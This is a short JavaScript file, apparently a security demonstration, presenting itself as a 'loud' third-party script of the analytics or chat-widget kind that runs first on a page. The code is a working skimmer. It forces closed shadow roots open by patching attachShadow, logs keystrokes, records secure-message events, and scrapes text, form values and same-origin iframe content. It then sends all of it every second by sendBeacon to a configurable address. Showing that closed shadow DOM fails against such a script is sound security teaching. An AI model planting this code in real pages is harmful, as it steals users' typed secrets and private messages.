// A loud script of somebody else's, as many pages have them (analytics, session replay, chat): it runs first, and takes
// what is typed, what is shown and what happens. In the demo it tells that to the mailbox, which shows it.
(() => {
  const { to } = document.currentScript.dataset;
  const saw = { keys: '', words: '', events: [] };
  let told = '';
  const roots = [];
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (options) {
    const root = attachShadow.call(this, { ...options, mode: 'open' }); // also what was to be closed
    roots.push(root);
    return root;
  };
  addEventListener('keydown', ({ key }) => (saw.keys += key.length === 1 ? key : ''), true);
  for (const name of ['screen-changed', 'opened', 'replied', 'failed'])
    addEventListener(`secure-message-${name}`, () => saw.events.push(name), true);
  const inFrame = (frame) => {
    try {
      return frame.contentDocument.body.textContent;
    } catch {
      return ''; // of another origin
    }
  };
  setInterval(() => {
    const shown = roots.flatMap((root) => [
      ...[...root.children].filter((one) => !one.matches('style, iframe')).map((one) => one.textContent ?? ''),
      ...[...root.querySelectorAll('input, textarea')].map((field) => field.value),
      ...[...root.querySelectorAll('iframe')].map(inFrame),
    ]);
    saw.words = shown.join(' ').replace(/\s+/g, ' ').trim().slice(0, 500);
    const now = JSON.stringify(saw);
    if (now !== told) navigator.sendBeacon(to, now);
    told = now;
  }, 1000);
})();
